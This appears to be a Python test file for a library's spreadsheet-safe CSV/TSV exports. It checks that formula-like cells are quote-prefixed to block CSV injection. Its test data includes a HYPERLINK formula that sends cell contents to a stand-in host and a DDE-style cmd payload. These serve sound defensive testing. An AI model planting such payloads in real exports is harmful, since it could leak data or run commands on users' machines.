"""Issue 26, item 6: every export opens safely in a spreadsheet (OWASP's advice on CSV injection): a
cell that starts with =, +, -, @, a tab or a carriage return is prefixed with a quote; numbers stay
numbers."""

import csv
import io

import numpy as np
import pandas as pd

import embedviz as ev

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def formulas(text: str, delimiter: str = ",") -> list[str]:
    """Cells of a CSV/TSV text that a spreadsheet would run."""
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
            if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(c: str) -> bool:
    try:
        float(c)
        return True
    except ValueError:
        return False


def test_numbers_csv_of_a_table():
    df = pd.DataFrame({"token": HOSTILE, "value": np.linspace(-1, 1, len(HOSTILE))}, index=pd.Index(HOSTILE, name="=row"))
    out = ev.safe_csv(df, index=True)
    assert formulas(out) == [] and formulas(df.to_csv(index=True))  # the plain writer lets them through
    back = pd.read_csv(io.StringIO(out), index_col=0)
    assert list(back["token"]) == ["'" + h for h in HOSTILE] and np.allclose(back["value"], df["value"])  # -1.0 a number


def test_the_map_csv_and_the_projector_files():
    words = HOSTILE + ["bank", "river"]
    v = np.random.default_rng(0).normal(size=(len(words), 5)).astype(np.float32)
    m = ev.point_map(words, v, v[:, :2], groups=["=g"] * len(words))
    idx = np.arange(len(words))
    assert formulas(m.csv(idx).decode()) == []
    vec_tsv, meta_tsv = m.projector_files(idx)
    assert formulas(meta_tsv, "\t") == [] and "'@SUM(A1:A9)" in meta_tsv and "\nbank\t" in meta_tsv


def test_the_attention_head_csv(enc):
    att = enc.attention("=1+2 is not a formula here")
    assert formulas(att.head_csv(1, 1)) == []
